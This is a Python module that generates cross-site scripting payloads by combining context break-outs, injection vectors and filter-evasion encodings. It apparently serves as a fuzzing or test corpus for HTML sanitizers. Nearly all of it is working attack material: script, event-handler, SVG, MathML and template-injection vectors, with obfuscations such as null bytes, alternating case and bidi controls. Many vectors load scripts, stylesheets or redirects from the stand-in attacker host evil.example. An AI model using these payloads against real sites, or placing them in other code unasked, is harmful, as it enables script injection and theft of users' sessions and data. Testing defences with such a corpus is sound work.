"""Payloads for cross-site scripting, made by a small grammar of our own: a way out, a vector, an encoding.

Every payload calls `fired(n)` or asks the host `evil.example` for something, if a browser takes it for more
than text; `n` is its number.
"""

from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

ENOUGH = 1500

# From where a text may have landed back to where elements begin, or on to where a script runs.
WAYS_OUT = [
    "",
    '">',
    "'>",
    "-->",
    "</title></textarea></style></noscript>",
    "</script>",
    '" ',
    "]]></svg>",
]
VECTORS = [
    "<script>fired({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror=fired({n})>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload=fired({n})>",
    "<svg><animate onbegin=fired({n}) attributeName=x dur=1s>",
    "<a href=javascript:fired({n}) id=x autofocus onfocus=fired({n})>x</a>",
    "<iframe srcdoc='<script>parent.fired({n})</script>'></iframe>",
    "<iframe src=javascript:parent.fired({n})></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<p style='background:url(//evil.example/{n})'>x",
    "<form action=//evil.example/{n}><button autofocus onfocus=fired({n})>x</button></form>",
    "<details open ontoggle=fired({n})>x",
    "<video poster=//evil.example/{n}><source onerror=fired({n})></video>",
    "<div hx-get=//evil.example/{n} hx-trigger=load hx-on:load=fired({n})>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fired({n})></style></mglyph></table></math>",
    "onmouseover=fired({n}) onfocus=fired({n}) autofocus x=",
    "javascript:fired({n})//",
    "{{{{ fired({n}) }}}}{{% raw %}}",
]
ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "capitals": lambda text: "".join(
        char.upper() if place % 2 and "fired" not in text[place - 5 : place + 6] else char
        for place, char in enumerate(text)
    ),
    "entities": lambda text: "".join(f"&#{ord(char)};" if char in "<>\"'" else char for char in text),
    "addresses": lambda text: quote(text, safe=" ="),
    "twice": lambda text: text.replace("&", "&amp;").replace("<", "&lt;"),
    "nulls": lambda text: text.replace("<s", "<\0s").replace("java", "ja\tva").replace("on", "\x0con"),
    "escapes": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    "wide": lambda text: text.replace("<", "\uff1c<").replace('"', '\u201d"'),
    "turned": lambda text: "\u202e\u2066" + text,
}


def payloads() -> Iterator[str]:
    """Yield all that the grammar makes, each once, in a fixed order."""
    made = product(ENCODINGS.values(), WAYS_OUT, VECTORS)
    for number, (encode, way_out, vector) in enumerate(made):
        yield encode(way_out + vector.format(n=number))
